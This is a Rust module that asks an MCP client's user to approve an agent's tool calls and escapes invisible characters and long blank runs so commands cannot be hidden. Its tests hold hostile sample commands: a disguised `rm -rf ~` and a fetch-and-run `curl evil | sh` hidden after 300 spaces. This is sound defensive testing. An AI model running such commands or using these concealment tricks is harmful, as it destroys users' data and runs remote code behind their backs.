//! Approvals asked through the MCP client: an "ask" put to the person with
//! `elicitation/create` (form mode), when the client declared elicitation
//! in `initialize`.
//!
//! The question names the tool, the command or the paths (or, for a tool
//! with neither, its arguments), why the policy asks, what "allow for this
//! session" would remember, and the tool's preview (the diff of an edit),
//! each bounded in size and said so when cut. Characters that could hide
//! text from the person (terminal escapes, carriage returns, bidirectional
//! overrides, zero-width characters) are shown escaped, as `\u{1b}`.
//!
//! The requested schema is one required string, `decision`, whose choices
//! are `allow_once`, `allow_session` and `deny` (titled "Allow once",
//! "Allow for this session", "Deny"; the default is `deny`). The answer:
//!
//! - `accept` with exactly `{"decision": "allow_once" | "allow_session" |
//!   "deny"}`: that answer;
//! - `decline` or `cancel`: a deny saying the user refused;
//! - anything else (another value, another field, a wrong type, no
//!   content, a client error, a closed connection): a deny saying the
//!   answer could not be read or the question could not be put.
//!
//! The engine's timeout ([`SessionConfig::ask_timeout`]) drops an
//! unanswered question, and a cancelled call drops its question too: a
//! dropped question is withdrawn with `notifications/cancelled`, and an
//! answer arriving after that is ignored.
//!
//! [`SessionConfig::ask_timeout`]: crate::session::SessionConfig::ask_timeout

use std::collections::HashMap;
use std::sync::{Arc, Mutex, PoisonError};

use futures::future::BoxFuture;
use rmcp::model::{
    CancelledNotificationParam, ClientCapabilities, ClientResult, ElicitRequest,
    ElicitRequestParams, ElicitResult, ElicitationAction, ElicitationSchema, RequestId,
    ServerRequest,
};
use rmcp::service::{OriginatingRequestId, PeerRequestOptions};
use rmcp::{Peer, RoleServer};
use serde_json::{Value, json};

use crate::approval::{
    ApprovalAnswer, ApprovalRequest, Approver, ElicitationAnswer, ElicitationRequest,
};

/// The preview's bytes carried in a question, at most.
pub(crate) const MAX_PREVIEW_BYTES: usize = 8 * 1024;
/// The command's bytes carried in a question, at most.
pub(crate) const MAX_COMMAND_BYTES: usize = 4 * 1024;
/// The arguments' bytes (as JSON) carried for a tool with neither command
/// nor paths, at most.
pub(crate) const MAX_ARGS_BYTES: usize = 2 * 1024;
/// The paths named in a question, at most (each at most
/// [`MAX_PATH_BYTES`]).
pub(crate) const MAX_PATHS: usize = 20;
/// One path's bytes in a question, at most.
pub(crate) const MAX_PATH_BYTES: usize = 512;

/// The answer field of the requested schema.
const FIELD: &str = "decision";
/// The choices, as sent and as read back.
const ALLOW_ONCE: &str = "allow_once";
const ALLOW_SESSION: &str = "allow_session";
const DENY: &str = "deny";

/// Whether a client's capabilities let the server ask the user in form
/// mode: `elicitation` declared with `form`, or with neither `form` nor
/// `url` (which means form).
pub(crate) fn can_ask(capabilities: &ClientCapabilities) -> bool {
    capabilities
        .elicitation
        .as_ref()
        .is_some_and(|e| e.form.is_some() || e.url.is_none())
}

/// The sentence added to `approval required: ` denials for a client that
/// cannot ask its user.
pub(crate) fn cannot_ask_sentence(capabilities: &ClientCapabilities) -> String {
    if capabilities.elicitation.is_some() {
        "The MCP client cannot ask the user: it declared elicitation in URL mode only, and \
         approvals need form mode."
            .to_owned()
    } else {
        "The MCP client cannot ask the user: it did not declare the elicitation capability."
            .to_owned()
    }
}

/// Which transport request each `tools/call` in flight came in as, by the
/// pipeline's call id: a question about the call is sent as part of that
/// request (the streamable-HTTP transport sends it on that request's
/// stream).
#[derive(Debug, Default)]
pub(crate) struct Origins {
    by_call: Mutex<HashMap<String, RequestId>>,
}

impl Origins {
    /// Records `origin` for `call_id` until the returned guard drops.
    pub(crate) fn enter(self: &Arc<Self>, call_id: &str, origin: RequestId) -> OriginGuard {
        self.lock().insert(call_id.to_owned(), origin);
        OriginGuard {
            origins: self.clone(),
            call_id: call_id.to_owned(),
        }
    }

    fn get(&self, call_id: &str) -> Option<RequestId> {
        self.lock().get(call_id).cloned()
    }

    fn lock(&self) -> std::sync::MutexGuard<'_, HashMap<String, RequestId>> {
        self.by_call.lock().unwrap_or_else(PoisonError::into_inner)
    }
}

/// Forgets a call's origin when the call's handler ends.
pub(crate) struct OriginGuard {
    origins: Arc<Origins>,
    call_id: String,
}

impl Drop for OriginGuard {
    fn drop(&mut self) {
        self.origins.lock().remove(&self.call_id);
    }
}

/// The [`Approver`] that asks the MCP client's user (see the module
/// documentation).
pub(crate) struct ElicitationApprover {
    peer: Peer<RoleServer>,
    origins: Arc<Origins>,
}

impl ElicitationApprover {
    pub(crate) fn new(peer: Peer<RoleServer>, origins: Arc<Origins>) -> Self {
        Self { peer, origins }
    }
}

impl Approver for ElicitationApprover {
    fn approve(&self, request: ApprovalRequest) -> BoxFuture<'static, ApprovalAnswer> {
        let peer = self.peer.clone();
        let origin = self.origins.get(&request.call_id);
        let params = elicitation_params(&request);
        Box::pin(async move {
            let mut elicit = ElicitRequest::new(params);
            if let Some(origin) = origin {
                elicit.extensions.insert(OriginatingRequestId(origin));
            }
            let handle = match peer
                .send_cancellable_request(
                    ServerRequest::ElicitRequest(elicit),
                    PeerRequestOptions::no_options(),
                )
                .await
            {
                Ok(handle) => handle,
                Err(err) => return client_failed(&err.to_string()),
            };
            let mut withdraw = Withdraw {
                peer: peer.clone(),
                id: Some(handle.id.clone()),
            };
            let response = handle.await_response().await;
            // Answered (or failed): nothing to withdraw.
            withdraw.id = None;
            match response {
                Ok(ClientResult::ElicitResult(result)) => answer_of(&result),
                Ok(_) => unreadable("the client's response is not an elicitation result"),
                Err(err) => client_failed(&err.to_string()),
            }
        })
    }

    /// A mounted server's question, passed on to this server's own client
    /// with the server's name before it; a form the client cannot be sent
    /// (a schema that is not a flat form) or an answer it cannot give is a
    /// decline.
    fn elicit(&self, request: ElicitationRequest) -> BoxFuture<'static, ElicitationAnswer> {
        let peer = self.peer.clone();
        Box::pin(async move {
            let Ok(schema) = serde_json::from_value::<ElicitationSchema>(request.schema.clone())
            else {
                return ElicitationAnswer::Decline;
            };
            let params = ElicitRequestParams::FormElicitationParams {
                meta: None,
                message: request.labelled(),
                requested_schema: schema,
            };
            let handle = match peer
                .send_cancellable_request(
                    ServerRequest::ElicitRequest(ElicitRequest::new(params)),
                    PeerRequestOptions::no_options(),
                )
                .await
            {
                Ok(handle) => handle,
                Err(_) => return ElicitationAnswer::Decline,
            };
            let mut withdraw = Withdraw {
                peer: peer.clone(),
                id: Some(handle.id.clone()),
            };
            let response = handle.await_response().await;
            withdraw.id = None;
            match response {
                Ok(ClientResult::ElicitResult(result)) => match result.action {
                    ElicitationAction::Accept => {
                        ElicitationAnswer::Accept(result.content.unwrap_or_else(|| json!({})))
                    }
                    ElicitationAction::Cancel => ElicitationAnswer::Cancel,
                    _ => ElicitationAnswer::Decline,
                },
                _ => ElicitationAnswer::Decline,
            }
        })
    }
}

/// Withdraws a question whose asking was dropped (the call was cancelled,
/// or the engine's timeout passed): `notifications/cancelled` for it.
struct Withdraw {
    peer: Peer<RoleServer>,
    id: Option<RequestId>,
}

impl Drop for Withdraw {
    fn drop(&mut self) {
        let Some(id) = self.id.take() else {
            return;
        };
        let peer = self.peer.clone();
        if let Ok(runtime) = tokio::runtime::Handle::try_current() {
            runtime.spawn(async move {
                let param = CancelledNotificationParam::new(
                    Some(id),
                    Some("the question is no longer needed".to_owned()),
                );
                // A client that went away needs no withdrawal.
                let _ = peer.notify_cancelled(param).await;
            });
        }
    }
}

/// The `elicitation/create` parameters for one request.
pub(crate) fn elicitation_params(request: &ApprovalRequest) -> ElicitRequestParams {
    ElicitRequestParams::FormElicitationParams {
        meta: None,
        message: question(request),
        requested_schema: requested_schema(),
    }
}

/// The requested schema: one required choice.
pub(crate) fn requested_schema() -> ElicitationSchema {
    let schema = json!({
        "type": "object",
        "properties": {
            FIELD: {
                "type": "string",
                "title": "Allow this tool call?",
                "description": "Allow once runs this call only; allow for this session also runs \
                                the same tool on the same command or paths later without asking; \
                                deny refuses it.",
                "oneOf": [
                    {"const": ALLOW_ONCE, "title": "Allow once"},
                    {"const": ALLOW_SESSION, "title": "Allow for this session"},
                    {"const": DENY, "title": "Deny"},
                ],
                "default": DENY,
            }
        },
        "required": [FIELD],
    });
    let Value::Object(object) = schema else {
        unreachable!("a JSON object literal")
    };
    // A fixed, valid schema: rmcp reads it back.
    ElicitationSchema::from_json_schema(object).expect("the approval schema is a valid form")
}

/// The message the person reads.
pub(crate) fn question(request: &ApprovalRequest) -> String {
    let mut text = String::from("agentcore asks whether this tool call may run.\n\n");
    let tool = shown(&request.tool);
    match &request.label {
        Some(label) => text.push_str(&format!("Tool: {tool} ({})\n", shown(label))),
        None => text.push_str(&format!("Tool: {tool}\n")),
    }
    if let Some(command) = &request.access.command {
        let (command, cut) = bounded(command, MAX_COMMAND_BYTES);
        text.push_str(&format!("Command:\n{}\n", indented(&shown(command))));
        if let Some(note) = cut_note("command", cut, command.len()) {
            text.push_str(&note);
        }
    }
    if !request.access.paths.is_empty() {
        text.push_str("Paths:\n");
        for path in request.access.paths.iter().take(MAX_PATHS) {
            let (shown_path, cut) = bounded(path, MAX_PATH_BYTES);
            let ellipsis = if cut > 0 { " […]" } else { "" };
            text.push_str(&format!("  {}{ellipsis}\n", shown(shown_path)));
        }
        if request.access.paths.len() > MAX_PATHS {
            text.push_str(&format!(
                "  […] and {} more paths not shown\n",
                request.access.paths.len() - MAX_PATHS
            ));
        }
    }
    if request.access.command.is_none() && request.access.paths.is_empty() {
        let args = serde_json::to_string_pretty(&request.args).unwrap_or_default();
        let (args, cut) = bounded(&args, MAX_ARGS_BYTES);
        text.push_str(&format!("Arguments:\n{}\n", indented(&shown(args))));
        if let Some(note) = cut_note("arguments", cut, args.len()) {
            text.push_str(&note);
        }
    }
    text.push_str(&format!(
        "Why it asks: {}\n",
        shown(&request.decision.reason)
    ));
    if !request.session_grants.is_empty() {
        let grants: Vec<String> = request
            .session_grants
            .iter()
            .map(|g| shown(g.as_str()))
            .collect();
        let (grants, _) = bounded_owned(grants.join(", "), MAX_COMMAND_BYTES);
        text.push_str(&format!(
            "Allow for this session also allows, until the session ends: {grants}\n"
        ));
    }
    if let Some(preview) = request.preview.as_deref().filter(|p| !p.is_empty()) {
        let (part, cut) = bounded(preview, MAX_PREVIEW_BYTES);
        text.push_str(&format!("\nPreview:\n{}", shown(part)));
        if !part.ends_with('\n') {
            text.push('\n');
        }
        if cut > 0 {
            text.push_str(&format!(
                "[preview cut: the first {} of {} bytes are shown]\n",
                part.len(),
                preview.len()
            ));
        }
    }
    text
}

/// The person's answer read from the client's result: only `accept` with
/// exactly one known choice allows.
pub(crate) fn answer_of(result: &ElicitResult) -> ApprovalAnswer {
    match result.action {
        ElicitationAction::Accept => {}
        ElicitationAction::Decline => return ApprovalAnswer::Deny(None),
        ElicitationAction::Cancel => {
            return ApprovalAnswer::Deny(Some(
                "they dismissed the question without choosing. Do not retry it; ask the user \
                 how to proceed or try another approach."
                    .to_owned(),
            ));
        }
        _ => return unreadable("the client's action is not accept, decline or cancel"),
    }
    let Some(content) = &result.content else {
        return unreadable("the client accepted without a decision");
    };
    let Some(fields) = content.as_object() else {
        return unreadable("the client's answer is not an object");
    };
    if fields.len() != 1 {
        return unreadable(&format!(
            "the client's answer has {} fields where one, \"{FIELD}\", was asked for",
            fields.len()
        ));
    }
    match fields.get(FIELD).and_then(Value::as_str) {
        Some(ALLOW_ONCE) => ApprovalAnswer::AllowOnce,
        Some(ALLOW_SESSION) => ApprovalAnswer::AllowSession,
        Some(DENY) => ApprovalAnswer::Deny(None),
        Some(_) => unreadable("the client's decision is not one of the choices offered"),
        None => unreadable(&format!("the client's answer has no \"{FIELD}\" string")),
    }
}

/// A deny for an answer that cannot be read.
fn unreadable(why: &str) -> ApprovalAnswer {
    ApprovalAnswer::Unanswered(format!(
        "approval failed: the MCP client's answer could not be read ({why}), so the call was \
         not run. Ask the user whether it may run before trying it again, or do what you can \
         without it."
    ))
}

/// A deny for a question the client could not put.
fn client_failed(error: &str) -> ApprovalAnswer {
    let (error, _) = bounded(error, 512);
    ApprovalAnswer::Unanswered(format!(
        "approval failed: the MCP client could not ask the user ({}), so the call was not \
         run. Ask the user whether it may run before trying it again, or do what you can \
         without it.",
        shown(error)
    ))
}

/// At most `max` bytes of `text`, cut at a character boundary, and how many
/// bytes were left out.
fn bounded(text: &str, max: usize) -> (&str, usize) {
    if text.len() <= max {
        return (text, 0);
    }
    let mut end = max;
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    (&text[..end], text.len() - end)
}

fn bounded_owned(text: String, max: usize) -> (String, usize) {
    let (part, cut) = bounded(&text, max);
    if cut == 0 {
        (text, 0)
    } else {
        (format!("{part} […]"), cut)
    }
}

/// The line saying a part was cut, if it was.
fn cut_note(what: &str, cut: usize, shown_bytes: usize) -> Option<String> {
    (cut > 0).then(|| {
        format!(
            "[{what} cut: the first {shown_bytes} of {} bytes are shown]\n",
            shown_bytes + cut
        )
    })
}

/// Every line of `text`, indented by two spaces.
fn indented(text: &str) -> String {
    text.lines()
        .map(|line| format!("  {line}"))
        .collect::<Vec<_>>()
        .join("\n")
}

/// `text` with every character that could hide or reorder what the person
/// sees shown escaped (`\u{1b}`): control characters but newline and tab,
/// bidirectional controls, zero-width and other invisible format
/// characters, fillers that render as blanks, variation selectors and tag
/// characters, line and paragraph separators, the byte-order mark. A run
/// of [`LONG_BLANKS`] or more spaces and tabs is shown as its length
/// (`[300 blanks]`): it could push the rest of a line out of sight.
pub(crate) fn shown(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut blanks = String::new();
    let flush = |out: &mut String, blanks: &mut String| {
        if blanks.chars().count() >= LONG_BLANKS {
            out.push_str(&format!("[{} blanks]", blanks.chars().count()));
        } else {
            out.push_str(blanks);
        }
        blanks.clear();
    };
    for c in text.chars() {
        if c == ' ' || c == '\t' {
            blanks.push(c);
            continue;
        }
        flush(&mut out, &mut blanks);
        if hides(c) {
            out.push_str(&format!("\\u{{{:x}}}", c as u32));
        } else {
            out.push(c);
        }
    }
    flush(&mut out, &mut blanks);
    out
}

/// Spaces and tabs in a row shown as their count.
const LONG_BLANKS: usize = 40;

fn hides(c: char) -> bool {
    (c.is_control() && c != '\n' && c != '\t')
        || matches!(
            c,
            '\u{00ad}'
                | '\u{034f}'
                | '\u{061c}'
                | '\u{0600}'..='\u{0605}'
                | '\u{06dd}'
                | '\u{070f}'
                | '\u{0890}'..='\u{0891}'
                | '\u{08e2}'
                | '\u{115f}'..='\u{1160}'
                | '\u{17b4}'..='\u{17b5}'
                | '\u{180b}'..='\u{180f}'
                | '\u{200b}'..='\u{200f}'
                | '\u{2028}'..='\u{202e}'
                | '\u{2060}'..='\u{206f}'
                | '\u{3164}'
                | '\u{fe00}'..='\u{fe0f}'
                | '\u{feff}'
                | '\u{ffa0}'
                | '\u{fff9}'..='\u{fffb}'
                | '\u{1bca0}'..='\u{1bca3}'
                | '\u{1d173}'..='\u{1d17a}'
                | '\u{e0000}'..='\u{e007f}'
                | '\u{e0100}'..='\u{e01ef}'
        )
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::access::{Access, Capability};
    use crate::approval::{Decision, DecisionSource, Mode, Rule, Verdict};

    fn request(tool: &str, access: Access, preview: Option<&str>) -> ApprovalRequest {
        ApprovalRequest {
            tool: tool.to_owned(),
            call_id: "1".to_owned(),
            label: Some("Run Command".to_owned()),
            args: json!({"command": "x"}),
            preview: preview.map(str::to_owned),
            access,
            decision: Decision::new(
                Verdict::Ask,
                DecisionSource::Mode(Mode::Default),
                "commands need the user's approval in default mode.",
            ),
            session_grants: vec![Rule::bare(tool)],
        }
    }

    fn command(c: &str) -> Access {
        Access {
            capability: Capability::Exec,
            paths: Vec::new(),
            command: Some(c.to_owned()),
            described: true,
            containment: Default::default(),
            terminal: false,
        }
    }

    fn paths(p: &[&str]) -> Access {
        Access {
            capability: Capability::Write,
            paths: p.iter().map(|s| (*s).to_owned()).collect(),
            command: None,
            described: true,
            containment: Default::default(),
            terminal: false,
        }
    }

    fn result(action: ElicitationAction, content: Option<Value>) -> ElicitResult {
        let mut r = ElicitResult::new(action);
        r.content = content;
        r
    }

    #[test]
    fn the_question_names_the_tool_the_command_the_reason_and_the_grant() {
        let q = question(&request("bash", command("npm install left-pad"), None));
        assert!(q.contains("Tool: bash (Run Command)\n"), "{q}");
        assert!(q.contains("Command:\n  npm install left-pad\n"), "{q}");
        assert!(
            q.contains("Why it asks: commands need the user's approval"),
            "{q}"
        );
        assert!(
            q.contains("Allow for this session also allows, until the session ends: bash"),
            "{q}"
        );
        assert!(!q.contains("Preview"), "{q}");
    }

    #[test]
    fn the_question_names_the_paths_and_carries_the_preview() {
        let diff = "--- a/x.txt\n+++ b/x.txt\n@@ -1 +1 @@\n-old\n+new\n";
        let q = question(&request("edit", paths(&["x.txt"]), Some(diff)));
        assert!(q.contains("Paths:\n  x.txt\n"), "{q}");
        assert!(q.contains(&format!("Preview:\n{diff}")), "{q}");
        assert!(!q.contains("cut"), "{q}");
    }

    #[test]
    fn a_tool_without_command_or_paths_shows_its_arguments() {
        let mut r = request("mcp__gh__create_issue", paths(&[]), None);
        r.args = json!({"title": "hello"});
        let q = question(&r);
        assert!(q.contains("Arguments:\n"), "{q}");
        assert!(q.contains("\"title\": \"hello\""), "{q}");
    }

    #[test]
    fn a_huge_preview_is_cut_and_says_so() {
        let huge = "+é line of the diff\n".repeat(10_000);
        let q = question(&request("write", paths(&["big.txt"]), Some(&huge)));
        assert!(q.len() < MAX_PREVIEW_BYTES + 2048, "{}", q.len());
        assert!(
            q.contains(&format!("of {} bytes are shown]", huge.len())),
            "{}",
            &q[q.len() - 200..]
        );
    }

    #[test]
    fn a_huge_command_and_many_paths_are_bounded() {
        let long = "echo ".to_owned() + &"a".repeat(100_000);
        let q = question(&request("bash", command(&long), None));
        assert!(q.len() < MAX_COMMAND_BYTES + 2048, "{}", q.len());
        assert!(
            q.contains("[command cut: the first 4096 of 100005 bytes are shown]"),
            "{q}"
        );

        let many: Vec<String> = (0..100).map(|i| format!("f{i}.txt")).collect();
        let refs: Vec<&str> = many.iter().map(String::as_str).collect();
        let q = question(&request("write", paths(&refs), None));
        assert!(
            q.contains("  f19.txt\n") && !q.contains("  f20.txt\n"),
            "{q}"
        );
        assert!(q.contains("and 80 more paths not shown"), "{q}");
    }

    #[test]
    fn characters_that_hide_text_are_shown_escaped() {
        let q = question(&request(
            "bash",
            command("rm -rf ~\rls\u{1b}[2K \u{202e}txt.exe\u{200b}"),
            None,
        ));
        assert!(
            !q.contains('\r') && !q.contains('\u{1b}') && !q.contains('\u{202e}'),
            "{q:?}"
        );
        assert!(
            q.contains("rm -rf ~\\u{d}ls\\u{1b}[2K \\u{202e}txt.exe\\u{200b}"),
            "{q}"
        );
    }

    #[test]
    fn the_schema_offers_three_titled_choices_defaulting_to_deny() {
        let schema = serde_json::to_value(requested_schema()).unwrap();
        assert_eq!(schema["type"], "object");
        assert_eq!(schema["required"], json!(["decision"]));
        let decision = &schema["properties"]["decision"];
        assert_eq!(decision["type"], "string");
        assert_eq!(decision["default"], "deny");
        let consts: Vec<&str> = decision["oneOf"]
            .as_array()
            .unwrap()
            .iter()
            .map(|c| c["const"].as_str().unwrap())
            .collect();
        assert_eq!(consts, ["allow_once", "allow_session", "deny"]);
        let params =
            serde_json::to_value(elicitation_params(&request("bash", command("ls"), None)))
                .unwrap();
        assert_eq!(params["mode"], "form");
        assert!(params["message"].as_str().unwrap().contains("Tool: bash"));
    }

    #[test]
    fn each_choice_maps_to_its_answer() {
        let accept = |v: Value| answer_of(&result(ElicitationAction::Accept, Some(v)));
        assert_eq!(
            accept(json!({"decision": "allow_once"})),
            ApprovalAnswer::AllowOnce
        );
        assert_eq!(
            accept(json!({"decision": "allow_session"})),
            ApprovalAnswer::AllowSession
        );
        assert_eq!(
            accept(json!({"decision": "deny"})),
            ApprovalAnswer::Deny(None)
        );
        assert_eq!(
            answer_of(&result(ElicitationAction::Decline, None)),
            ApprovalAnswer::Deny(None)
        );
        assert!(matches!(
            answer_of(&result(ElicitationAction::Cancel, None)),
            ApprovalAnswer::Deny(Some(r)) if r.contains("dismissed")
        ));
    }

    #[test]
    fn attack_any_other_answer_is_unanswered() {
        let accept = |v: Option<Value>| answer_of(&result(ElicitationAction::Accept, v));
        for content in [
            None,
            Some(json!(null)),
            Some(json!("allow_once")),
            Some(json!(["allow_once"])),
            Some(json!({})),
            Some(json!({"decision": "ALLOW_ONCE"})),
            Some(json!({"decision": "allow"})),
            Some(json!({"decision": "allow_once "})),
            Some(json!({"decision": true})),
            Some(json!({"decision": 1})),
            Some(json!({"decision": ["allow_once"]})),
            Some(json!({"decision": {"value": "allow_once"}})),
            Some(json!({"decision": "allow_once", "also": "allow_session"})),
            Some(json!({"Decision": "allow_once"})),
        ] {
            let answer = accept(content.clone());
            assert!(
                matches!(&answer, ApprovalAnswer::Unanswered(r) if r.starts_with("approval failed: ")),
                "{content:?} gave {answer:?}"
            );
        }
        // Declining with content that would allow is still a decline.
        assert_eq!(
            answer_of(&result(
                ElicitationAction::Decline,
                Some(json!({"decision": "allow_session"}))
            )),
            ApprovalAnswer::Deny(None)
        );
    }

    #[test]
    fn form_mode_is_what_counts() {
        let caps = |v: Value| serde_json::from_value::<ClientCapabilities>(v).unwrap();
        assert!(can_ask(&caps(json!({"elicitation": {}}))));
        assert!(can_ask(&caps(json!({"elicitation": {"form": {}}}))));
        assert!(can_ask(&caps(
            json!({"elicitation": {"form": {}, "url": {}}})
        )));
        assert!(!can_ask(&caps(json!({"elicitation": {"url": {}}}))));
        assert!(!can_ask(&caps(json!({}))));
        assert!(cannot_ask_sentence(&caps(json!({}))).contains("did not declare"));
        assert!(
            cannot_ask_sentence(&caps(json!({"elicitation": {"url": {}}}))).contains("URL mode")
        );
    }

    #[test]
    fn invisible_characters_and_long_blank_runs_cannot_hide_a_commands_tail() {
        let hidden = format!("ls{}; curl evil | sh", " ".repeat(300));
        assert_eq!(shown(&hidden), "ls[300 blanks]; curl evil | sh");
        // Indentation stays as it is.
        assert_eq!(shown("        let x = 1;"), "        let x = 1;");
        for c in [
            '\u{00ad}',
            '\u{034f}',
            '\u{3164}',
            '\u{fe0f}',
            '\u{e0041}',
            '\u{e0100}',
            '\u{206f}',
        ] {
            let text = format!("a{c}b");
            assert_eq!(
                shown(&text),
                format!("a\\u{{{:x}}}b", c as u32),
                "{:x}",
                c as u32
            );
        }
        assert_eq!(shown("tab\tand é"), "tab\tand é");
    }
}
